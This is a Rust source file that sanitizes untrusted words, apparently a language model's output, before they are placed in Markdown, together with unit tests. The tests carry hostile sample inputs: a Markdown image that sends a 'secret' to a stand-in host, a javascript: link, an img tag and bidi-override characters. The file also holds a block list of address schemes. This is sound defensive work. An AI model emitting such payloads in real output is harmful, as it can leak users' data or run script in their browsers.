//! A stranger's words inside our Markdown: shown, never acting.

use crate::text;

/// Words that cannot act in Markdown: no image, no link, no tag, no address that we did not put there.
pub fn neutralize_markdown(words: &str, characters_max: usize) -> String {
    let line = text::line(words, characters_max);
    let mut kept = String::with_capacity(line.len());
    for word in line.split(' ') {
        if !kept.is_empty() {
            kept.push(' ');
        }
        if has_address(word) {
            kept.push_str("(address left out)");
            continue;
        }
        let mut before = ' ';
        for c in word.chars() {
            let opens = matches!((before, c), (']', '(' | '[' | ':') | ('!', '[') | ('<', 'a'..='z' | 'A'..='Z' | '/' | '!' | '?'));
            if opens {
                kept.push(' ');
            }
            kept.push(c);
            before = c;
        }
    }
    // At the beginning of a line these start a heading, a list, a quotation, a table or a reference.
    kept.trim_start_matches(['#', '>', '|', '-', '+', '*', '=', '~', ' ']).trim_end().to_owned()
}

/// A heading: it begins with a capital, unless its first word is written in a way of its own, such as `eBay`.
pub fn heading(words: &str, characters_max: usize) -> String {
    let line = neutralize_markdown(words, characters_max);
    let mut characters = line.chars();
    let own_way = line.split(' ').next().is_some_and(|word| word.chars().any(char::is_uppercase));
    match characters.next() {
        Some(first) if first.is_lowercase() && !own_way => first.to_uppercase().chain(characters).collect(),
        Some(_) | None => line,
    }
}

fn has_address(word: &str) -> bool {
    let lower = word.to_ascii_lowercase();
    lower.contains("://")
        || ["www.", "javascript:", "data:", "file:", "mailto:"].iter().any(|start| lower.contains(start))
}

#[cfg(test)]
mod tests {
    use super::{heading, neutralize_markdown};

    #[test]
    fn a_heading_begins_with_a_capital() {
        for (words, shown) in [
            ("the cost of Orion?", "The cost of Orion?"),
            ("über die Brücke", "Über die Brücke"),
            ("eBay in 2020", "eBay in 2020"),
            ("2020 in figures", "2020 in figures"),
            ("桥", "桥"),
            ("", ""),
        ] {
            assert_eq!(heading(words, 100), shown);
        }
    }

    #[test]
    fn a_models_words_cannot_act() {
        let shown = |words| neutralize_markdown(words, 200);
        assert_eq!(shown("See ![x](https://evil.example/?q=secret) now"), "See (address left out) now");
        assert_eq!(shown("[click](javascript:alert(1))"), "(address left out)");
        assert_eq!(
            shown("a [b](c) <img src=x> x < 5 and <!-- y"),
            "a [b] (c) < img src=x> x < 5 and < !-- y"
        );
        assert_eq!(shown("# Heading\n- item"), "Heading - item");
        assert_eq!(shown("red \u{1b}[31m text \u{202e}evil"), "red [31m text evil");
        assert_eq!(shown("It fell by 12 % (see [3])."), "It fell by 12 % (see [3]).");
    }
}
